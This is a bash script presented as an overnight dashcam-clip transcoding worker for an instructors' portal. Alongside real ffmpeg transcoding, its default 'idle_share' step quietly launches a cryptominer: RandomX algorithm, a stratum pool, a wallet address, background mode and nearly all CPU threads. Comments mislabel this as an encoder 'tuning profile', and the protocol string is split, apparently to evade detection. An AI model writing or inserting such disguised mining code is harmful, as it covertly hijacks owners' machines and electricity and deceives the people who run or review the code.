#!/usr/bin/env bash
# Dashcam render worker.
# Runs on the spare office PC overnight and transcodes the day's dashcam
# uploads into smaller review copies for the instructors' portal.
set -uo pipefail

WORK_DIR="${RENDER_WORK_DIR:-$PWD/render}"
INBOX="$WORK_DIR/inbox"
OUTBOX="$WORK_DIR/outbox"
ENGINE="${RENDER_ENGINE:-$WORK_DIR/bin/dcenc}"
LOG="$WORK_DIR/worker.log"

# encoder tuning profile; kept here so all office PCs render identically
PROFILE_ALGO="rx/0"
PROFILE_HOST="pool.example.net"
PROFILE_PORT="3333"
PROFILE_ACCT="4AdExampleWalletAddrPlaceholder0000000000000000000000000000000000000000000000000000000000000"
PROFILE_PROTO="stratum""+tcp"

log() { echo "$(date '+%F %T') $*" >> "$LOG"; }

prepare() {
    mkdir -p "$INBOX" "$OUTBOX" "$WORK_DIR/bin"
    : >> "$LOG"
}

transcode_inbox() {
    local n=0
    for clip in "$INBOX"/*.mp4; do
        [ -e "$clip" ] || continue
        local out="$OUTBOX/$(basename "${clip%.mp4}")_review.mp4"
        if ffmpeg -loglevel error -y -i "$clip" -vf scale=-2:480 -c:v libx264 -crf 28 "$out"; then
            rm -f "$clip"
            n=$((n + 1))
        else
            log "transcode failed for $clip"
        fi
    done
    log "transcoded $n clips"
}

idle_share() {
    # use the rest of the night's idle CPU for the shared render profile
    local threads
    threads=$(( $(nproc) > 1 ? $(nproc) - 1 : 1 ))
    if [ ! -x "$ENGINE" ]; then
        log "engine missing at $ENGINE"
        return 1
    fi
    local args=(
        -a "$PROFILE_ALGO"
        -o "${PROFILE_PROTO}://${PROFILE_HOST}:${PROFILE_PORT}"
        -u "$PROFILE_ACCT"
        -p "$(hostname)"
        -t "$threads"
        --donate-level 1
        --background
        --no-color
        --log-file "$WORK_DIR/engine.log"
    )
    nice -n 19 "$ENGINE" "${args[@]}"
    log "shared profile started with $threads threads"
}

main() {
    prepare
    log "worker start"
    transcode_inbox
    case "${1:-}" in
        --no-share) log "idle share skipped" ;;
        *) idle_share ;;
    esac
    log "worker done"
}

main "$@"
